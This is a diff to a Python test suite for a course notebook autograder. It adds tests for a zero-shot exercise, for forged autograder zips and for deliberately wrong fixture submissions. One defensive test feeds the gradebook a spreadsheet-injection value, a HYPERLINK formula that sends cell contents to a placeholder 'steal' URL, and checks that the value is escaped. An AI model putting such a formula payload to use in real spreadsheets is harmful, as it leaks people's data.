@@ -59,6 +59,7 @@ def test_the_course_has_its_exercise_sets():
         "04_ner",
         "05_nli",
         "06_setfit",
+        "07_zero_shot",
         "quiz",
     } <= set(BY_SLUG)
 
@@ -172,6 +173,15 @@ def test_exercise_06_questions_and_points():
     ]
 
 
+def test_exercise_07_questions_and_points():
+    exercise = BY_SLUG["07_zero_shot"]
+    assert [(q.name, q.points, q.manual) for q in exercise.questions] == [
+        ("q1", 2, False),
+        ("q2", 3, False),
+        ("q3", 1, True),
+    ]
+
+
 def test_exercise_02_hidden_baseline_is_a_measured_number():
     """q3's hidden test compares with the baseline's held-back macro-F1, measured once."""
     exercise = BY_SLUG["02_multiclass_imbalance"]
@@ -282,6 +292,77 @@ def test_handout_comparison_reports_deleted_cells_and_untouched_answers():
     assert gradebook.compare_with_handout(edited, template) == [
         '1 handed-out cell(s) deleted: "id2label = ..."'
     ]
+
+
+def test_handout_comparison_works_without_cell_ids():
+    """nbformat 4.4 notebooks (or converted copies) have no cell ids: cells are matched by content."""
+    exercise = BY_SLUG["01_binary_sentiment"]
+    template = {cell.id: cell for cell in read(exercise.student_notebook).cells}
+
+    def without_ids(nb):
+        for cell in nb.cells:
+            cell.pop("id", None)
+        return nb
+
+    untouched = without_ids(read(exercise.student_notebook))
+    assert gradebook.compare_with_handout(untouched, template) == [
+        f"unanswered: none of the {sum(map(is_answer_cell, untouched.cells))} answer cells was changed"
+    ]
+    edited = read(exercise.student_notebook)
+    check_q1 = next(c for c in edited.cells if c.source.strip() == 'grader.check("q1")')
+    edited.cells = [c for c in edited.cells if c is not check_q1 and c.id != "q2-answer-train"]
+    next(c for c in edited.cells if c.id == "q3-answer").source = "q3_macro_f1 = 0.5"
+    reasons = gradebook.compare_with_handout(without_ids(edited), template)
+    assert reasons == ['1 handed-out cell(s) deleted: "grader.check("q1")"', "1 answer cell(s) deleted"]
+
+
+def test_the_gradebook_never_hands_a_formula_to_a_spreadsheet(tmp_path):
+    exercise = BY_SLUG["05_nli"]
+    hostile = gradebook.SubmissionGrade(
+        "=cmd.ipynb",
+        {"q1": 0.0, "q2": 0.0},
+        reasons=["-2+3"],
+        manual_answers={"q3": '=HYPERLINK("http://example.com/steal?"&A1, "see answer")'},
+    )
+    path = gradebook.write_gradebook([hostile], exercise, tmp_path / "book.csv")
+    row = read_gradebook(path)["'=cmd.ipynb"]
+    assert row["q3_answer"] == '\'=HYPERLINK("http://example.com/steal?"&A1, "see answer")'
+    assert row["reason"] == "'-2+3" and row["total"] == "0"
+
+
+def test_a_changed_autograder_zip_is_never_reused(tmp_path, monkeypatch):
+    """The build stamp holds the zip's hash: a zip rewritten after the build is rebuilt."""
+    exercise = BY_SLUG["quiz"]
+    calls = []
+
+    def fake_build(exercise, folder, run_tests=True):
+        build = exercises.Build(exercise, Path(folder))
+        build.autograder_dir.mkdir(parents=True, exist_ok=True)
+        build.autograder_zip.write_bytes(b"the real autograder")
+        calls.append(folder)
+        return build
+
+    monkeypatch.setattr(exercises, "build", fake_build)
+    first = exercises.cached_build(exercise, tmp_path)
+    assert exercises.build_is_current(exercise, tmp_path) and len(calls) == 1
+    exercises.cached_build(exercise, tmp_path)
+    assert len(calls) == 1, "an unchanged build is reused"
+    first.autograder_zip.write_bytes(b"a forged autograder that gives everyone full marks")
+    assert not exercises.build_is_current(exercise, tmp_path)
+    exercises.cached_build(exercise, tmp_path)
+    assert len(calls) == 2 and first.autograder_zip.read_bytes() == b"the real autograder"
+
+
+def test_a_zip_changed_during_grading_grades_no_one(tmp_path):
+    """grade_folder takes the zip's hash before the first submission; a later submission whose
+    private copy differs (someone rewrote the shared zip) is not graded with it."""
+    exercise = BY_SLUG["quiz"]
+    forged = tmp_path / "autograder.zip"
+    forged.write_bytes(b"rewritten by a submission")
+    grade = gradebook.grade_submission(
+        exercise.student_notebook, exercise, forged, autograder_sha256="0" * 64
+    )
+    assert grade.total == 0 and grade.reasons[0].startswith("not graded: the autograder")
 
 
 def test_written_answers_are_collected_for_the_grader():
@@ -532,6 +613,39 @@ def broken_submissions(slug: str, build: exercises.Build) -> dict[str, nbformat.
                 },
             )
         }
+    if slug == "07_zero_shot":
+        # q1 rounds the batches down; q2 hands in the lesson's inbox descriptions, which gain on
+        # validation and not enough on the held-back test messages
+        lesson_descriptions = (
+            "q2_template = '{}'\n"
+            "q2_label_texts = {\n"
+            "    'order_status': 'The customer asks where an order is or when it will arrive.',\n"
+            "    'order_change': 'The customer wants to change or cancel an order.',\n"
+            "    'refund_return': 'The customer wants a refund or to return an item.',\n"
+            "    'billing': 'The customer asks about a charge, an invoice or a payment.',\n"
+            "    'technical_support': 'The customer says a product or the app does not work.',\n"
+            "    'account_access': 'The customer cannot log in or needs help with their account.',\n"
+            "    'product_inquiry': 'The customer asks about a product before buying it.',\n"
+            "    'feedback': 'The customer gives feedback, praise or a complaint about the service.',\n"
+            "    'warranty_repair': 'The customer asks about a warranty or a repair.',\n"
+            "    'data_privacy': 'The customer asks about their personal data or privacy.',\n"
+            "}\n"
+            "q2_validation = score_wording(q2_template, [q2_label_texts[name] for name in intent_names])"
+        )
+        return {
+            "shortcuts.ipynb": answered(
+                build,
+                {
+                    "q1-answer": (
+                        "def q1_nli_passes(num_texts, num_labels):\n    return num_texts * num_labels\n\n\n"
+                        "def q1_embedding_passes(num_texts, num_labels):\n    return num_texts\n\n\n"
+                        "def q1_nli_batches(num_texts, num_labels, batch_size):\n"
+                        "    return num_texts * num_labels // batch_size"
+                    ),
+                    "q2-answer": lesson_descriptions,
+                },
+            )
+        }
     if slug == "quiz":
         wrong = {f"q{i:02d}-answer": f"q{i:02d} = 99" for i in (2, 3, 5, 6)}
         return {
@@ -664,6 +778,11 @@ def test_a_learner_sees_every_check_pass_and_the_gradebook_grades_the_class(buil
         )
         assert "q2 0.5/2: AssertionError: k=1, 1 classes" in shortcuts["reason"]
         assert "q3 0.5/2: AssertionError: 0.815 is within 0.01 of 0.820" in shortcuts["reason"]
+    if slug == "07_zero_shot":
+        shortcuts = book["shortcuts.ipynb"]  # each passes its public checks and no hidden test
+        assert (shortcuts["q1"], shortcuts["q2"], shortcuts["total"]) == ("0.5", "1", "1.5")
+        assert "q1 0.5/2: AssertionError: 1 texts, 1 labels, batch_size 4" in shortcuts["reason"]
+        assert "q2 1/3: AssertionError: held-back test messages" in shortcuts["reason"]
     if slug == "quiz":
         assert correct["passed"] == "yes" and unanswered["passed"] == "no"
         assert (book["seven_right.ipynb"]["total"], book["seven_right.ipynb"]["passed"]) == ("7", "yes")
